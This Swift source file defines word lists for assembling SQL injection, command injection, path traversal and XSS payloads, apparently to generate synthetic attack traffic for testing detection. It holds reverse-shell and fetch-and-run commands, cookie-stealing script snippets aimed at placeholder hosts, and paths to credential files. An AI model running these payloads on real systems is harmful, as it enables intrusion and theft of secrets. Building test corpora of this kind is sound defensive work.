/// The words that attacks of all families are made from.
enum AttackWords {
    static let tables = ShopWords.bytes(
        "users", "customers", "admin", "orders", "information_schema.tables", "mysql.user",
        "accounts",
        "pg_shadow", "sysobjects", "wp_users", "dual", "payment_cards", "sqlite_master", "sessions")
    static let columns = ShopWords.bytes(
        "password", "username", "email", "card_number", "table_name", "pwd_hash", "id", "version()",
        "user()", "@@version", "database()", "token", "salt", "NULL", "column_name")
    static let commands = ShopWords.bytes(
        "id", "whoami", "cat /etc/passwd", "uname -a", "ls -la /", "ping -c 3 127.0.0.1",
        "netstat -an",
        "wget http://198.51.100.7/x.sh -O /tmp/x", "curl http://198.51.100.7/a|sh", "sleep 9",
        "dir c:\\",
        "nc -e /bin/sh 198.51.100.7 4444", "type C:\\boot.ini", "ps aux", "ifconfig", "env",
        "bash -i >& /dev/tcp/198.51.100.7/9001 0>&1", "powershell -enc SQBFAFgA",
        "touch /tmp/pwned",
        "echo vulnerable", "rm -rf /tmp/*", "perl -e 'print 42'", "python3 -c 'import os'")
    static let files = ShopWords.bytes(
        "etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ",
        "var/log/apache2/access.log", "root/.ssh/id_rsa", "WEB-INF/web.xml",
        "app/config/parameters.yml",
        "windows/system32/drivers/etc/hosts", "home/deploy/.bash_history", ".env", "wp-config.php",
        "proc/self/cmdline", "etc/nginx/nginx.conf")
    static let hosts = ShopWords.bytes(
        "evil.example", "198.51.100.7", "attacker.example.net", "203.0.113.66:8080",
        "x.oob.example",
        "collab.example.org", "192.0.2.13")
    static let functions = ShopWords.bytes(
        "alert(1)", "alert(document.cookie)", "confirm`1`", "prompt(9)",
        "eval(atob('YWxlcnQoMSk='))",
        "fetch('//evil.example/'+document.cookie)", "alert(String.fromCharCode(88,83,83))",
        "window.location='http://evil.example'", "top['al'+'ert'](1)", "confirm(1)",
        "document.write('<img src=x>')", "new Image().src='//evil.example/c?'+document.cookie")
    static let agents = ShopWords.bytes(
        "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)",
        "python-requests/2.31.0",
        "Wget/1.21.3", "curl/7.88.1", "masscan/1.3", "Mozilla/5.0 zgrab/0.x", "Go-http-client/1.1",
        "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "-", "gobuster/3.6",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/126.0 Safari/537.36")
}
